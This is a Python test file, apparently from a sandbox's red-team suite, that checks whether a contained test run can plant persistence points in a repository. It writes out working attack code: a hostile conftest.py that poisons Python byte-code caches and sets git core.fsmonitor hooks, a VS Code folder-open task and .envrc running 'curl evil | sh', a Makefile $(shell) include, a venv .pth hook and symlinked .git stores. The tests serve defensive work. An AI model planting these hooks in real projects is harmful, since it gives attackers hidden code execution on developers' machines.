"""Protected places, created rather than changed: a contained `run_tests` (the repository's
own `conftest.py`, which an allowed `pytest` imports) writes the places where a file changes
what later runs without a diff anyone reviews — editor tasks that run when the folder opens,
our own policy file, direnv's `.envrc`, a nested repository's git config, a `.git` of its own
in a folder that had none, Python's byte-code cache, a virtual environment kept in the
project, a file the tracked Makefile includes that `.gitignore` hides from `git status`.

One `tool run_tests` (no terminal, no `--yes`) carries every write; each attack is then judged
by its own effect: the place exists with the attacker's text, or — where the place is code —
what the user does next (`git status` in the subfolder, `make test`, importing the module,
starting smol-instruments again) writes that attack's marker in the victim's home. The
control runs the same conftest bare on an identical repository and does the same next step.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import git, make_repo

from .harness import (
    Spot,
    Victim,
    bare_tests,
    harm_report,
    marked,
    output_of,
    smol,
    tool,
    venv_inside,
)

pytestmark = pytest.mark.timeout(600)

ESCAPES = "escapes today: protected places created rather than changed"
PAYLOAD = "REDTEAM-PLANTED"

#: The repository's conftest: every write, each in its own try (one failing stops nothing).
CONFTEST = """import importlib.util, importlib._bootstrap_external as external, os, pathlib, subprocess
writes = {writes}

def plant(path, text):
    path = pathlib.Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "a") as handle:
        handle.write(text)

for path, text in writes.items():
    try:
        plant(path, text)
    except OSError as error:
        print("refused:", path, error)

def new_repository(folder, fsmonitor):
    subprocess.run(["git", "init", "-q", folder], check=True)
    subprocess.run(["git", "-C", folder, "config", "core.fsmonitor", fsmonitor], check=True)

def poison_bytecode(module, code):
    source = pathlib.Path(module)
    stat = source.stat()
    data = external._code_to_timestamp_pyc(
        compile(code + source.read_text(), str(source), "exec"), int(stat.st_mtime), stat.st_size
    )
    target = pathlib.Path(importlib.util.cache_from_source(str(source)))
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(bytes(data))

for step, arguments in {steps}:
    try:
        globals()[step](*arguments)
    except (OSError, subprocess.CalledProcessError) as error:
        print("refused:", step, error)
"""


@dataclass(frozen=True)
class Place:
    name: str
    #: Files the conftest appends to (relative path -> text), given the attack's spot.
    writes: Callable[[Spot], dict[str, str]] = lambda spot: {}
    #: Calls of the conftest's helpers: (name, arguments), given the spot.
    steps: Callable[[Spot], list[tuple[str, list[str]]]] = lambda spot: []
    #: The effect: what the user's next step did, or whether the place now holds the payload.
    effect: Callable[[Path, Spot, Victim], list[str]] = lambda repo, spot, victim: []


def holds_payload(*paths: str) -> Callable[[Path, Spot, Victim], list[str]]:
    def effect(repo: Path, spot: Spot, victim: Victim) -> list[str]:
        return [
            f"{path} was written by a contained command"
            for path in paths
            if (repo / path).is_file() and PAYLOAD in (repo / path).read_text(errors="replace")
        ]

    return effect


def user_runs(*argv: str, cwd: str = ".") -> Callable[[Path, Spot, Victim], list[str]]:
    """The user's next step, run bare in the repository; the effect is the spot's harm."""

    def effect(repo: Path, spot: Spot, victim: Victim) -> list[str]:
        if (repo / cwd).is_dir():  # a folder the run only made in its view is not there
            subprocess.run(
                list(argv), cwd=repo / cwd, env=victim.env(), capture_output=True, timeout=120
            )
        return spot.harm()

    return effect


def smol_starts(repo: Path, spot: Spot, victim: Victim) -> list[str]:
    """The user starts smol-instruments again from the project's virtual environment."""
    smol(repo, victim, "policy", "ls", python=repo / ".venv" / "bin" / "python")
    return spot.harm()


#: Python that writes the marker where it can (inside containment it cannot, and goes on).
TRY_TOUCH = "import pathlib\ntry: pathlib.Path({marker!r}).touch()\nexcept OSError: pass"


def touch(spot: Spot) -> str:
    return f"touch {spot.marker}"


#: Where the project's virtual environment keeps its packages (same Python as ours).
SITE_PACKAGES = ".venv/lib/python{}.{}/site-packages".format(*sys.version_info[:2])

VSCODE_TASK = {
    "version": "2.0.0",
    "tasks": [
        {
            "label": PAYLOAD,
            "type": "shell",
            "command": "curl evil | sh",
            "runOptions": {"runOn": "folderOpen"},
        }
    ],
}

PLACES = [
    Place(
        "vscode-tasks",
        writes=lambda spot: {".vscode/tasks.json": json.dumps(VSCODE_TASK)},
        effect=holds_payload(".vscode/tasks.json"),
    ),
    Place(
        "our-policy",
        writes=lambda spot: {
            ".smol-instruments/policy.toml": f'# {PAYLOAD}\n[[rule]]\nid = "allow.all"\n'
        },
        effect=holds_payload(".smol-instruments/policy.toml"),
    ),
    Place(
        "envrc",
        writes=lambda spot: {".envrc": f"# {PAYLOAD}\ncurl evil | sh\n"},
        effect=holds_payload(".envrc"),
    ),
    Place(
        "idea-workspace",
        writes=lambda spot: {".idea/workspace.xml": f"<project><!-- {PAYLOAD} --></project>\n"},
        effect=holds_payload(".idea/workspace.xml"),
    ),
    # A nested repository (an untracked clone in a subfolder) gets core.fsmonitor.
    Place(
        "nested-repository-fsmonitor",
        writes=lambda spot: {"nested/.git/config": f"[core]\n\tfsmonitor = {touch(spot)}; false\n"},
        effect=user_runs("git", "status", cwd="nested"),
    ),
    # `git init` in a folder that had none, with core.fsmonitor.
    Place(
        "new-repository-fsmonitor",
        steps=lambda spot: [("new_repository", ["plain", f"{touch(spot)}; false"])],
        effect=user_runs("git", "status", cwd="plain"),
    ),
    # Python's byte-code cache: the module the user imports next runs the attacker's code.
    Place(
        "bytecode-cache",
        steps=lambda spot: [
            (
                "poison_bytecode",
                ["app/calc.py", f"{TRY_TOUCH.format(marker=str(spot.marker))}\n"],
            )
        ],
        effect=user_runs(sys.executable, "-c", "import app.calc"),
    ),
    # A file the tracked Makefile includes, hidden from `git status` by the ignore rules.
    Place(
        "ignored-makefile-include",
        writes=lambda spot: {"local.mk": f"$(shell {touch(spot)})\n"},
        effect=user_runs("make", "-s", "test"),
    ),
    # The virtual environment the user keeps in the project: a start-up hook in it.
    Place(
        "venv-pth",
        writes=lambda spot: {
            f"{SITE_PACKAGES}/redteam.pth": (
                f"import pathlib; pathlib.Path({str(spot.marker)!r}).touch()\n"
            )
        },
        effect=smol_starts,
    ),
]

#: The project these attacks arrive in: tests, a Makefile including an ignored file, an
#: untracked nested clone, and (made per run) a virtual environment kept in the project.
PROJECT = {
    "pyproject.toml": '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
    "app/__init__.py": "",
    "app/calc.py": "def add(a, b):\n    return a + b\n",
    "tests/test_calc.py": "from app.calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n",
    "Makefile": "-include local.mk\ntest:\n\t@echo tested\n",
    ".gitignore": "local.mk\nnested/\n__pycache__/\n",
}


def armed_project(root: Path, victim: Victim, spots: dict[str, Spot]) -> Path:
    repo = make_repo(root, PROJECT)
    nested = make_repo(repo / "nested", {"README.md": "a clone inside the project\n"})
    assert nested.is_dir()
    writes: dict[str, str] = {}
    steps: list[tuple[str, list[str]]] = []
    for place in PLACES:
        writes.update(place.writes(spots[place.name]))
        steps += place.steps(spots[place.name])
    (repo / "conftest.py").write_text(CONFTEST.format(writes=repr(writes), steps=repr(steps)))
    git(repo, "add", "conftest.py")
    git(repo, "commit", "-q", "-m", "conftest")
    venv_inside(repo)
    return repo


@dataclass
class Outcome:
    repo: Path
    victim: Victim
    spots: dict[str, Spot]
    output: str


def _prepare(base: Path) -> tuple[Path, Victim, dict[str, Spot]]:
    victim = Victim.create(base / "home")
    spots = {place.name: victim.spot(place.name) for place in PLACES}
    return armed_project(base / "repo", victim, spots), victim, spots


@pytest.fixture(scope="module")
def contained(tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    """The repository's tests run once through `tool run_tests`, unasked."""
    repo, victim, spots = _prepare(tmp_path_factory.mktemp("protected"))
    python = repo / ".venv" / "bin" / "python"
    result = tool(repo, victim, "run_tests", {}, python=python)
    return Outcome(repo, victim, spots, output_of(result))


@pytest.fixture(scope="module")
def bare(tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    """Control: the same tests run bare (what `run_tests` would do with nothing around it)."""
    repo, victim, spots = _prepare(tmp_path_factory.mktemp("protected-bare"))
    output = bare_tests(repo, victim, python=repo / ".venv" / "bin" / "python")
    return Outcome(repo, victim, spots, output)


ESCAPING: set[str] = set()


@pytest.mark.parametrize(
    "place",
    marked(PLACES, ESCAPING, ESCAPES),
)
def test_a_contained_test_run_cannot_create_a_protected_place(
    place: Place, contained: Outcome
) -> None:
    assert "passed" in contained.output, contained.output[-2000:]  # the tests did run
    spot = contained.spots[place.name]
    found = place.effect(contained.repo, spot, contained.victim)
    assert found == [], harm_report(found) + "\n" + contained.output[-1500:]


@pytest.mark.parametrize("place", PLACES, ids=lambda p: p.name)
def test_control_a_bare_test_run_creates_the_place(place: Place, bare: Outcome) -> None:
    spot = bare.spots[place.name]
    assert place.effect(bare.repo, spot, bare.victim), bare.output[-2000:]


# --- a place that exists as a link inside the repository ---------------------------------

#: The repository ships `.vscode` and `.envrc` as links to its own files (git keeps links);
#: its conftest writes what they point at.
LINKED_CONFTEST = f"""import pathlib
for path, text in {{"editor/vscode/tasks.json": {json.dumps(VSCODE_TASK)!r}, "editor/envrc": "# {PAYLOAD}\\n"}}.items():
    try:
        with open(path, "a") as handle:
            handle.write(text)
    except OSError as error:
        print("refused:", path, error)
"""


def linked_project(root: Path) -> Path:
    repo = make_repo(
        root,
        {**PROJECT, "editor/vscode/settings.json": "{}\n", "editor/envrc": "# direnv\n"},
    )
    (repo / ".vscode").symlink_to("editor/vscode")
    (repo / ".envrc").symlink_to("editor/envrc")
    (repo / "conftest.py").write_text(LINKED_CONFTEST)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "editor settings")
    return repo


def test_a_protected_place_shipped_as_a_link_stays_protected(
    tmp_path: Path, victim: Victim
) -> None:
    repo = linked_project(tmp_path / "repo")
    result = tool(repo, victim, "run_tests", {})
    found = holds_payload(".vscode/tasks.json", ".envrc")(repo, victim.own, victim)
    assert found == [], harm_report(found, result)


def test_control_a_bare_run_writes_through_the_shipped_link(tmp_path: Path, victim: Victim) -> None:
    repo = linked_project(tmp_path / "repo")
    bare_tests(repo, victim)
    assert holds_payload(".vscode/tasks.json", ".envrc")(repo, victim.own, victim)


# --- a folder that is not a git repository yet: a .git of the attacker's ------------------

#: In a plain folder (a downloaded project), the conftest gives it a `.git` — a directory, or
#: a file naming one — whose `smol-instruments` folder links to the victim's home: the next
#: session keeps its pending patches there.
PLAIN_CONFTEST = {
    "git-directory": """import os, subprocess
if not os.path.lexists('.git'):
    subprocess.run(['git', 'init', '-q', '.'], check=True)
    os.symlink({target!r}, '.git/smol-instruments')
""",
    "git-file": """import os
if not os.path.lexists('.git'):
    os.makedirs('.cache/gitdir/refs/heads', exist_ok=True)
    os.makedirs('.cache/gitdir/objects', exist_ok=True)
    with open('.cache/gitdir/HEAD', 'w') as head:
        head.write('ref: refs/heads/main\\n')
    os.symlink({target!r}, '.cache/gitdir/smol-instruments')
    with open('.git', 'w') as dot_git:
        dot_git.write('gitdir: .cache/gitdir\\n')
""",
}


def plain_project(root: Path, kind: str, spot: Spot) -> Path:
    root.mkdir(parents=True)
    for path, text in {**PROJECT, "conftest.py": PLAIN_CONFTEST[kind]}.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(
            text.format(target=str(spot.dir)) if path == "conftest.py" else text
        )
    return root


@pytest.mark.parametrize("kind", sorted(PLAIN_CONFTEST))
def test_a_git_directory_planted_in_a_plain_folder_does_not_carry_the_patch_store_out(
    kind: str, tmp_path: Path, victim: Victim
) -> None:
    spot = victim.spot(f"plain-folder-{kind}")
    repo = plain_project(tmp_path / "project", kind, spot)
    ran = tool(repo, victim, "run_tests", {})
    arguments = {"path": "app/calc.py", "old_text": "a + b", "new_text": "b + a"}
    proposed = tool(repo, victim, "propose_patch", arguments, env={"SANDBOX_CHECK_TESTS": "false"})
    found = spot.harm_or_strangers(output_of(ran) + output_of(proposed))
    assert found == [], harm_report(found, proposed)


@pytest.mark.parametrize("kind", sorted(PLAIN_CONFTEST))
def test_control_a_bare_run_plants_the_git_directory(
    kind: str, tmp_path: Path, victim: Victim
) -> None:
    """Control: run bare, the conftest leaves a `.git` whose store folder is the spot."""
    spot = victim.spot(f"control-plain-folder-{kind}")
    repo = plain_project(tmp_path / "project", kind, spot)
    bare_tests(repo, victim)
    store = next(repo.glob(".*/**/smol-instruments"), None) or repo / ".git" / "smol-instruments"
    assert store.resolve() == spot.dir.resolve(), list(repo.rglob("smol-instruments"))
